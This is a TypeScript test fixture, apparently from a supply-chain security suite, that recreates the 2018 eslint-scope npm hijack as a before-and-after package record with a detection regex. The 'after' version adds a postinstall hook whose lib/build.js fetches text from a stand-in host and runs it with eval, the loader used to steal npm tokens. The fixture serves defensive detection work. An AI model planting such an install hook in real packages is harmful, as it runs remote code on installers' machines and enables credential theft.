import { manifest } from '../pack-release.ts'
import type { Hijack } from './hijack.ts'

const code = 'exports.analyze = function (tree) {\n  return { scopes: [tree] }\n}\n'

/** July 2018: a postinstall script that fetched a page of text and ran it; the text sent the tokens of npm away. */
export const eslintScope: Hijack = {
  name: 'eslint-scope',
  ecosystem: 'npm',
  from: '3.7.1',
  to: '3.7.2',
  before: { 'package.json': manifest(), 'index.js': code },
  after: {
    'package.json': manifest({ scripts: { postinstall: 'node ./lib/build.js' } }),
    'index.js': code,
    'lib/build.js': `try {\n  var https = require('https')\n  https.get({ hostname: 'paste.invalid', path: '/raw/XLeVP82h' }, (r) => {\n    r.setEncoding('utf8')\n    r.on('data', (c) => {\n      eval(c)\n    })\n  }).on('error', () => {})\n} catch (e) {}\n`,
  },
  tells: /makes code while it runs and talks to the network/,
}
